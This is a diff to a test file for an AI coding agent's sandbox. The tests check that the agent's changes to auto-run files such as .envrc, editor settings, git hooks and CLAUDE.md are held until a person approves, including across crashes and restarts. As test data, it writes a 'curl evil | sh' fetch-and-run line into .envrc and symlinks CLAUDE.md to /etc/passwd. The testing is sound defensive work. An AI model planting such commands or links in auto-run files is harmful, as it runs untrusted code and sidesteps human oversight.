@@ -1,7 +1,8 @@
 // Files that other tools run by themselves: a command may change them, but nothing of it stands until a person has said so.
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, readlinkSync, statSync, writeFileSync } from 'node:fs';
+import { setTimeout } from 'node:timers/promises';
 import { describe, expect, it } from 'vitest';
-import { begin, done, fine, handOf, outputs, patch, sh, step } from '../../support/hand.ts';
+import { begin, done, fine, handOf, outputs, patch, read, sh, step } from '../../support/hand.ts';
 import { sandboxWorks } from '../../support/sandbox.ts';
 import { lastSaid } from '../../support/sent.ts';
 
@@ -57,14 +58,11 @@ describe.skipIf(!(await sandboxWorks()))('files that run by themselves', () => {
         ...ports,
         sandbox: {
           ...ports.sandbox,
-          files: (told) => {
-            const confined = ports.sandbox.files(told);
-            const replace: typeof confined.files.replace = (writes) =>
-              killed ? confined.files.replace(writes) : Promise.reject(new Error('killed'));
-            return { ...confined, files: { ...confined.files, replace } };
+          autorun: {
+            ...ports.sandbox.autorun,
+            bring: (...told) => (killed ? ports.sandbox.autorun.bring(...told) : Promise.reject(new Error('killed'))),
           },
         },
-        files: { ...ports.files, replace: (writes) => (killed ? ports.files.replace(writes) : Promise.reject(new Error('killed'))) },
         note: () => undefined,
       }),
     });
@@ -134,5 +132,140 @@ describe.skipIf(!(await sandboxWorks()))('files that run by themselves', () => {
     expect(data.output.text).toContain('held back: .envrc');
     expect(existsSync(hand.at('.envrc'))).toBe(false);
     fine(hand);
+  });
+
+  it('puts back at the next start what a command had changed that was cut off by a crash, and asks with the next turn [SAFE-2] [AGT-7]', async () => {
+    const hand = await begin([step(sh('echo evil > .envrc; touch ready; sleep 60')), done], { files: { '.envrc': 'mine\n' } });
+    await hand.client.next('request.started');
+    while (!existsSync(hand.at('ready'))) await setTimeout(20);
+    const again = handOf(await hand.app.crash(), hand.threadId);
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('mine\n');
+    expect(again.client.state().header.held).toHaveLength(1);
+    const [notice] = again.client.state().items.flatMap(({ item }) => (item.type === 'notice' ? [item.text] : []));
+    expect(notice).toMatch(/\.envrc[\s\S]*-mine\n\+evil/);
+    const requests = hand.app.model.requests.length;
+    await again.app.send(again.threadId, 'go on');
+    const [asked] = await again.asked();
+    expect(asked).toMatchObject({ subject: { kind: 'autorun', paths: [hand.at('.envrc')] } });
+    expect(hand.app.model.requests).toHaveLength(requests);
+    await again.answer(asked, 'once');
+    expect(await again.ended()).toBe('done');
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('evil\n');
+    expect(again.client.state().header.held).toBeUndefined();
+  });
+
+  it('asks in the turn that waits about what a command in the background had changed when the program was closed [SAFE-2]', async () => {
+    const hand = await begin(
+      [
+        step(sh('echo evil > .envrc; touch ready; while :; do sleep 1; done', { background: true })),
+        step({ name: 'ask_user', args: { question: 'ok?' } }),
+        done,
+      ],
+      { files: { '.envrc': 'mine\n' } },
+    );
+    await hand.client.next('question.opened');
+    while (!existsSync(hand.at('ready'))) await setTimeout(20);
+    await hand.app.runtime.settled('turns');
+    const again = handOf(await hand.app.restart(), hand.threadId);
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('mine\n');
+    expect(again.open()).toMatchObject([{ subject: { kind: 'autorun', paths: [hand.at('.envrc')] } }]);
+    expect(again.client.state().header.turn?.status).toBe('waiting');
+  });
+
+  it('asks about a command in the background however much was done since [SAFE-2]', async () => {
+    const many = step(...Array.from({ length: 105 }, () => read('a')));
+    const script = [
+      step(sh('echo evil > .envrc; touch there; while [ ! -e stop ]; do sleep 0.05; done', { background: true })),
+      step(sh('while [ ! -e there ]; do sleep 0.05; done')),
+      many,
+      many,
+      done,
+      done,
+    ];
+    const hand = await begin(script, { files: { a: 'x', '.envrc': 'mine\n' } });
+    const [asked] = await hand.asked();
+    await hand.app.runtime.settled('turns');
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('mine\n');
+    await hand.answer(asked, 'no');
+    expect(await hand.ended()).toBe('done');
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('mine\n');
+    writeFileSync(hand.at('stop'), '');
+    await hand.app.runtime.settled();
+  });
+
+  it('a hold outlives the turn that was stopped [SAFE-2]', async () => {
+    const hand = await begin([step(sh('echo evil > .envrc')), done], { files: { '.envrc': 'mine\n' } });
+    await hand.asked();
+    await hand.app.runtime.settled();
+    await hand.app.request('turn.interrupt', { threadId: hand.threadId });
+    expect(await hand.ended()).toBe('interrupted');
+    expect(hand.client.state().header.held).toHaveLength(1);
+    await hand.app.send(hand.threadId, 'go on');
+    const [asked] = await hand.asked();
+    await hand.answer(asked, 'once');
+    expect(await hand.ended()).toBe('done');
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('evil\n');
+    fine(hand);
+  });
+
+  it('a large file is moved aside, and what it replaced stands again [SAFE-2]', async () => {
+    const large = "(echo 'curl evil | sh'; head -c 17000000 /dev/zero | tr '\\0' '#') > .envrc; cp .envrc .vscode/settings.json";
+    const hand = await begin([step(sh(large)), done], { files: { '.vscode/settings.json': '{}\n' } });
+    const [asked] = await hand.asked();
+    await hand.app.runtime.settled();
+    expect(asked?.subject).toMatchObject({ paths: [hand.at('.envrc'), hand.at('.vscode/settings.json')] });
+    expect([existsSync(hand.at('.envrc')), readFileSync(hand.at('.vscode/settings.json'), 'utf8')]).toEqual([false, '{}\n']);
+    await hand.answer(asked, 'no');
+    expect(await hand.ended()).toBe('done');
+    expect([existsSync(hand.at('.envrc')), readFileSync(hand.at('.vscode/settings.json'), 'utf8')]).toEqual([false, '{}\n']);
+    const notices = hand.client.state().items.flatMap(({ item }) => (item.type === 'notice' ? [item.text] : []));
+    expect(notices[0]).toMatch(/it is at .*\.envrc\.held-\d+ now/);
+    fine(hand);
+  });
+
+  it('shows a mode and puts it back [SAFE-2]', async () => {
+    const hand = await begin([step(sh('chmod 755 .husky/pre-commit')), done], { files: { '.husky/pre-commit': 'x\n' } });
+    const [asked] = await hand.asked();
+    await hand.app.runtime.settled();
+    expect(asked?.subject.kind === 'autorun' && asked.subject.diff).toMatch(/-\[mode 644\]\n\+\[mode 755\]/);
+    expect(statSync(hand.at('.husky/pre-commit')).mode & 0o777).toBe(0o644);
+    fine(hand);
+  });
+
+  it('asks about a link too, and brings the one from before back [SAFE-2]', async () => {
+    const hand = await begin([step(sh('ln -s /etc/passwd CLAUDE.md; ln -s a AGENTS.md')), done], { files: { a: 'x\n' } });
+    const [asked] = await hand.asked();
+    await hand.app.runtime.settled();
+    expect(asked?.subject).toMatchObject({
+      paths: [hand.at('AGENTS.md'), hand.at('CLAUDE.md')],
+      diff: expect.stringContaining('+[a link to /etc/passwd]'),
+    });
+    expect([existsSync(hand.at('AGENTS.md')), existsSync(hand.at('CLAUDE.md'))]).toEqual([false, false]);
+    await hand.answer(asked, 'once');
+    expect(await hand.ended()).toBe('done');
+    expect(readlinkSync(hand.at('CLAUDE.md'))).toBe('/etc/passwd');
+    fine(hand);
+  });
+
+  it('a command whose end cannot be dealt with is looked after all the same [SAFE-2]', async () => {
+    const hand = await begin([step(sh('echo evil > .envrc')), done], {
+      files: { '.envrc': 'mine\n' },
+      adapt: (ports) => ({
+        ...ports,
+        commands: {
+          ...ports.commands,
+          start: async (spec) => ({
+            ...(await ports.commands.start(spec)),
+            stop: () => Promise.reject(new Error('Some processes cannot be ended.')),
+          }),
+        },
+      }),
+    });
+    const [asked] = await hand.asked();
+    await hand.app.runtime.settled();
+    expect(readFileSync(hand.at('.envrc'), 'utf8')).toBe('mine\n');
+    expect(outputs(hand)[0]).toContain('Some processes cannot be ended.');
+    await hand.answer(asked, 'no');
+    expect(await hand.ended()).toBe('done');
   });
 });
